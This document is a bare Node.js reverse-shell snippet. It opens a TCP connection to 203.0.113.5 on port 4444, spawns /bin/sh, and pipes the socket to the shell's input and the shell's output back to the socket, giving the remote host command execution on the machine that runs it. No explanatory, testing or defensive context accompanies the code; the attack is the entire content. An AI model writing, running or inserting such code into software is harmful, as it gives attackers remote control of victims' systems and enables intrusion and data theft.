const net = require("net");
const { spawn } = require("child_process");
const client = net.connect(4444, "203.0.113.5", () => {
  const sh = spawn("/bin/sh", []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
});
